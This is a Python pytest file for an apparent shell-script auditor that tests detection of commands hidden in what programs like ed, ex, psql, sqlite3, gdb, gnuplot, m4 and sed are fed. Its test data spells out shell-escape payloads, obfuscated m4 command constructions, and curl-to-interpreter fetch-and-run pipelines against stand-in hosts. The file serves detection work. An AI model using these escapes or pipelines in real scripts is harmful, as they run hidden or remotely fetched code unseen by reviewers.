"""Commands in what a program is fed: known ones are read, what is fetched or hidden is said to be so, data is data."""

from __future__ import annotations

import time
from itertools import pairwise

import pytest

from auditor.model.reading import Reading
from auditor.model.unit import Language, Script
from auditor.read.evaluation import Evaluation

SSH = "ssh a.example"


def _read(code: str) -> Reading:
    return Evaluation(Script.of(code, Language.BASH, "script.sh")).read_script()


def _lines(code: str) -> list[str]:
    return [" ".join(map(str, effect.stages[0])) for effect in _read(code).effects]


def _fed(program: str, text: str) -> str:
    return f"cat > given <<'E'\n{text}\nE\n{program} < given\n"


@pytest.mark.parametrize(
    ("program", "text"),
    [
        ("ed -s", f"1,$!{SSH}"),
        ("ex -s x", f"g/./!{SSH}"),
        ("ex -s x", f"sil! !{SSH}"),
        ("ex -s x", f'exe "!{SSH}"'),
        ("ex -s x", f'call system("{SSH}")'),
        ("gnuplot", f'system "{SSH}"'),
        ("gnuplot", f'print system("{SSH}")'),
        ("gnuplot", f"plot '< {SSH}'"),
        ("psql", f"\\o | {SSH}"),
        ("psql", f"\\copy t from program '{SSH}'"),
        ("psql", f"select 1 \\g | {SSH}"),
        ("sqlite3", f'.import "|{SSH}" t'),
        ("sqlite3", f'.once "|{SSH}"'),
        ("gdb", f"pipe print x | {SSH}"),
    ],
)
def test_a_command_in_the_programs_own_syntax_is_read(program: str, text: str) -> None:
    """Each way in which such a program starts a shell is one."""
    assert SSH in _lines(_fed(program, text))


@pytest.mark.parametrize("program", ["ed -s", "m4", "gdb -q", "dc", "gnuplot", "vim -es"])
def test_what_is_fetched_and_fed_to_a_language_is_code(program: str) -> None:
    """The text of a URL that such a program runs is code of unknown origin."""
    name = program.partition(" ")[0]
    assert f"code.fetch https://x.example/p {name}" in _lines(f"curl -s https://x.example/p | {program}")


@pytest.mark.parametrize(
    ("program", "text"),
    [
        ("m4", "changequote([,])esyscmd([ssh a.example])"),
        ("m4", "indir(`esyscmd', `ssh a.example')"),
        ("m4", "define(`j', `$1$2')j(`esys', `cmd')(`ssh a.example')"),
        ("gdb", "python import os; os.system('ssh a.example')"),
        ("ex -s x", "python3 import os; os.system('ssh a.example')"),
    ],
)
def test_what_may_hide_a_command_is_a_gap(program: str, text: str) -> None:
    """Constructs that nobody follows are said not to be read."""
    assert [gap for gap in _read(_fed(program, text)).gaps if "way of its own" in gap.what]


@pytest.mark.parametrize(
    ("program", "text"),
    [
        ("ed -s x", "a\nHello, world!\ncolor: red !important;\n.\nw out.css\nq"),
        ("ex -s x", "%s/a/b/g\nset nu\nwq!"),
        ("m4", "define(`NAME', `world')Hello NAME"),
        ("psql", "\\copy t from stdin csv\n\\set x 1\nselect program from t;"),
        ("sqlite3 x", ".mode csv\n.import data.csv t\nselect a || b from t;"),
        ("gdb ./x", "break main\nrun\nbt"),
        ("gnuplot", "set output 'a.png'\nplot 'd.dat' using 1:2 with lines"),
    ],
)
def test_data_and_everyday_commands_start_nothing(program: str, text: str) -> None:
    """What these programs are mostly fed says nothing of a shell."""
    reading = _read(_fed(program, text))
    assert not reading.gaps
    started = [str(effect.stages[-1][0]) for effect in reading.effects]
    assert set(started) <= {"file.write", "cat", program.partition(" ")[0]}


def test_long_text_is_searched_in_time_that_grows_with_it() -> None:
    """Lines of nothing, and beginnings without an end, cost no more each for being many."""
    start = time.process_time()
    for program, text in (
        ("sqlite3", "\n" * 150_000),
        ("logrotate", "prerotate\n" * 15_000),
        ("ex -s", "silent" + " " * 150_000),
        ("m4", "syscmd(" * 20_000),
    ):
        _read(_fed(program, text))
    assert time.process_time() - start < 6


def test_settings_that_multiply_are_a_gap() -> None:
    """A job's settings that name each other eight times each are not spelled out."""
    names = "abcdefghi"
    lines = "".join(f"{name}={f'$({other})' * 8}\n" for name, other in pairwise(names))
    code = f"cat > job <<'E'\n{lines}i=xxxxxxxxxx\nexecutable=$(a)\nqueue\nE\ncondor_submit job\n"
    assert any("setting of a submitted job" in gap.what for gap in _read(code).gaps)


@pytest.mark.parametrize(
    "code",
    [
        f"echo '1e {SSH}' | sed -f - /etc/hostname",
        f"s=p; if [ -e /x ]; then s='1e {SSH}'; fi; echo a | sed \"$s\"",
        "echo a | sed 's/[/]*.*/ssh a.example/e'",
        f"echo a | sed '/[/]/d;1e {SSH}'",
    ],
)
def test_what_sed_runs_is_read(code: str) -> None:
    """Scripts that sed is fed, either of two scripts, and marks in brackets are understood."""
    assert SSH in _lines(code)


def test_what_sed_makes_in_a_way_that_nobody_follows_is_a_disguise() -> None:
    """Text of the script's own is not a user's input because an edit of it is not computed; a program's output is."""
    code = "printf 'sh a.example\\ns\\n' | sed -n 'H;${x;s/\\n//g;s/^\\(.*\\)s$/s\\1/;e\n}'"
    assert "code.load bash decoder" in _lines(code)
    assert "code.load bash decoder" not in _lines("ls | sed 'H;x;N;s/a/b/;e'")


@pytest.mark.parametrize("script", ["sed -f -", "sed -f /dev/stdin"])
def test_a_script_of_sed_that_is_fetched_is_code(script: str) -> None:
    """A script can run commands: nobody has read one that comes from the network."""
    assert "code.fetch https://x.example/p sed" in _lines(f"curl -s https://x.example/p | {script} /etc/hostname")
